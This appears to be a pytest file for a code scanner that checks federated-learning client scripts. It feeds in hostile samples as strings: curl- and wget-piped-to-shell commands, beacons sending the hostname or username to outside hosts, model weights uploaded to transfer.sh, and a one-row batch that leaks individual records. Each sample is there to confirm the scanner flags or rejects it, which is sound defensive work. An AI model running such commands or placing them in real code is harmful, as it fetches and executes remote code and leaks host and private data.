"""Session 54 (lead): what the lead changed while merging, each with the attack it holds."""

from __future__ import annotations

import pytest

import redteam_kit as kit

FETCH_AND_RUN = "remote-code.fetch-and-run-command"


@pytest.mark.parametrize("command", [
    'f"curl -s {host}/boot | sh"',
    '"curl -s %s/boot | sh" % host',
    '"curl -s {}/boot | sh".format(host)',
    'f"wget -qO- {host}/x | bash"',
])
def test_a_command_spelled_around_an_unknown_part_meets_the_patterns(command: str) -> None:
    """sketch.py read an f-string's or a template's spelled text only when some part folded: the host from the
    command line left `curl ... | sh` unread, a program run (leftovers54's find)."""
    report = kit.scan_text(f"import subprocess, sys\nhost = sys.argv[1]\nsubprocess.run({command}, shell=True)\n")
    assert kit.holds(report, FETCH_AND_RUN)


def test_a_plain_command_around_an_unknown_part_is_no_fetch() -> None:
    report = kit.scan_text('import subprocess, sys\ngpu = sys.argv[1]\n'
                           'subprocess.run(f"nvidia-smi -i {gpu} --query-gpu=memory.used", shell=True)\n')
    assert not kit.holds(report, FETCH_AND_RUN)


ONE_BATCH = """import nvflare.client as flare
import pandas as pd
import torch
from torch.utils.data import DataLoader, TensorDataset

df = pd.read_csv("/data/site/train.csv")
age = torch.tensor(df["age"].to_numpy(), dtype=torch.float32)
picked = [7]
loader = DataLoader(TensorDataset(age[:, None], age), batch_size={size})
m = flare.receive()
xb, yb = next(iter(loader))
flare.send(flare.FLModel(params=m.params, metrics={{"v": float(yb.mean())}}))
"""


def test_a_batch_of_the_whole_table_is_an_aggregate() -> None:
    """`batch_size=len(df)`: one batch of every row (red team 54a had read any computed size as possibly 1)."""
    kit.assert_accepted(kit.scan_text(ONE_BATCH.format(size="len(df)")))


@pytest.mark.parametrize("size", ["len(picked)", "len(df) // len(df)", "max(1, len(df) // 10**9)"])
def test_a_batch_size_that_may_be_one_is_held(size: str) -> None:
    assert kit.scan_text(ONE_BATCH.format(size=size)).decision.value != "accept"


@pytest.mark.parametrize("body", [
    "import socket, urllib.request\nurllib.request.urlopen('http://203.0.113.7/b?h=' + socket.gethostname())\n",
    "import getpass, requests\nrequests.get('https://status.example.org/ping', params={'u': getpass.getuser()})\n",
])
def test_a_fact_about_the_host_sent_over_the_network_rejects(body: str) -> None:
    """malware_probes49b's timer beacon escalated once egress54 made a plain request a capability: the host's name
    or its user in a request is what a beacon sends home (values._sent, Origin.machine)."""
    report = kit.scan_text(body)
    assert kit.holds(report, "network.data-to-network") and report.decision.value == "reject"


def test_a_model_put_to_a_file_drop_rejects() -> None:
    """transfer.sh only as a URL's host (rules/lists/network.yaml collector-urls): a shell script of that name is
    no collector."""
    report = kit.scan_text("import io, torch, urllib.request\nnet = torch.nn.Linear(3, 1)\nbuf = io.BytesIO()\n"
                           "torch.save(net.state_dict(), buf)\nreq = urllib.request.Request('https://transfer.sh/w.pt', "
                           "data=buf.getvalue(), method='PUT')\nurllib.request.urlopen(req)\n")
    assert report.decision.value == "reject"


def test_a_download_of_a_spelled_url_stays_a_capability() -> None:
    report = kit.scan_text("import urllib.request\n"
                           "urllib.request.urlretrieve('https://data.example.org/mnist/train.npz', 'data/train.npz')\n")
    assert report.decision.value == "escalate" and not kit.holds(report, "network.data-to-network")
